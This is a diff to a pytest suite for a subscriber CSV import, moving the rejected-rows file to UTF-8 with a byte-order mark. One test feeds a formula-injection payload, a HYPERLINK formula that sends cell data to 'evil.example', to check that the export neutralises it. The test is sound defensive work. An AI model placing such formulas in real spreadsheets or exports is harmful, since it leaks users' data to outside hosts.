@@ -256,7 +256,7 @@ def test_a_rejected_row_with_quoted_line_breaks_is_reported_at_the_line_where_it
 
     assert (job.state, job.rows_read, job.created) == ("completed", 4, 2)
     assert rejected_rows(job) == [(4, "too_short"), (7, "unknown_area")]
-    with open(job.rejected_path, newline="", encoding="utf-8") as handle:
+    with open(job.rejected_path, newline="", encoding="utf-8-sig") as handle:
         assert [(row["line"], row["reason"]) for row in csv.DictReader(handle)] == [
             ("4", "too_short"),
             ("7", "unknown_area"),
@@ -314,7 +314,7 @@ def test_rejected_file_lists_every_rejection_while_the_database_keeps_the_first(
 
     assert job.rejected == 5
     assert [line for line, _ in rejected_rows(job)] == [2, 3, 4]
-    with open(job.rejected_path, encoding="utf-8", newline="") as handle:
+    with open(job.rejected_path, encoding="utf-8-sig", newline="") as handle:
         listed = list(csv.reader(handle))
     assert listed[0] == ["line", "reason", "raw"]
     assert [row[:2] for row in listed[1:]] == [[str(line), "invalid"] for line in range(2, 7)]
@@ -324,7 +324,7 @@ def test_rejected_file_keeps_a_row_written_as_a_formula_from_running_in_a_spread
     rows = ['=HYPERLINK("http://evil.example/?"&A1)', "+6281", "-1+2", "@SUM(1)", "\tx", "bad"]
     job = run_import(write(tmp_path, "msisdn\n" + "\n".join(rows) + "\n"))
 
-    with open(job.rejected_path, encoding="utf-8", newline="") as handle:
+    with open(job.rejected_path, encoding="utf-8-sig", newline="") as handle:
         listed = [row[2] for row in list(csv.reader(handle))[1:]]
     assert listed == ["'" + row if row != "bad" else row for row in rows]
     # The database keeps what the file said; only the download is made safe to open.
@@ -422,7 +422,7 @@ def test_an_import_by_a_limited_officer_rejects_by_line_every_row_it_may_not_wri
         (9, "outside_jurisdiction"),
     ]
     assert job.rejected_by_reason == {"homed_outside_jurisdiction": 2, "missing_area": 1, "outside_jurisdiction": 2}
-    with open(job.rejected_path, encoding="utf-8") as handle:
+    with open(job.rejected_path, encoding="utf-8-sig") as handle:
         listed = [(int(line), reason) for line, reason, _raw in list(csv.reader(handle))[1:]]
     assert listed == rejected_rows(job)
     # Nothing of another region is written, and nothing is left without a home.
@@ -465,7 +465,7 @@ def test_a_resumed_limited_import_reports_the_same_rejections_and_stays_within_t
     assert (resumed.state, resumed.created, resumed.rejected) == ("completed", 4, 3)
     expected = [(3, "homed_outside_jurisdiction"), (5, "outside_jurisdiction"), (7, "missing_area")]
     assert rejected_rows(resumed) == expected
-    with open(resumed.rejected_path, encoding="utf-8") as handle:
+    with open(resumed.rejected_path, encoding="utf-8-sig") as handle:
         assert [row[0] for row in csv.reader(handle)][1:] == ["3", "5", "7"]
     assert Subscriber.objects.get(msisdn="+6281200000003").area_id == "33.16.01"
 
@@ -766,7 +766,18 @@ def test_upload_answers_202_and_the_job_reports_counts_and_rejected_rows(
     download = client.get(f"/api/v1/subscribers/imports/{job_id}/rejected.csv", HTTP_ACCEPT="text/csv")
     assert download.status_code == 200
     assert download["Content-Type"].startswith("text/csv")
-    assert b"".join(download.streaming_content).decode().splitlines() == ["line,reason,raw", "3,too_short,12;35.05.01"]
+    body = b"".join(download.streaming_content)
+    assert body.startswith(b"\xef\xbb\xbf")  # a spreadsheet then reads it as UTF-8
+    assert body.decode("utf-8-sig").splitlines() == ["line,reason,raw", "3,too_short,12;35.05.01"]
+
+
+def test_rejected_file_keeps_a_name_outside_ascii_readable_in_a_spreadsheet(tmp_path, areas):
+    job = run_import(write(tmp_path, "nomor,nama\nbad,Nurʼaini Süleyman\n"))
+
+    with open(job.rejected_path, "rb") as handle:
+        assert handle.read().startswith(b"\xef\xbb\xbfline,reason,raw")
+    with open(job.rejected_path, encoding="utf-8-sig", newline="") as handle:
+        assert list(csv.reader(handle))[1] == ["2", "invalid", "bad,Nurʼaini Süleyman"]
 
 
 @pytest.mark.parametrize(
@@ -1067,7 +1078,7 @@ def test_a_run_judged_dead_that_reads_on_after_a_resume_leaves_the_rejected_rows
         2,
         [(9, "invalid"), (13, "invalid")],
     )
-    with open(job.rejected_path, encoding="utf-8", newline="") as handle:
+    with open(job.rejected_path, encoding="utf-8-sig", newline="") as handle:
         assert list(csv.reader(handle)) == [
             ["line", "reason", "raw"],
             ["9", "invalid", "bad1"],
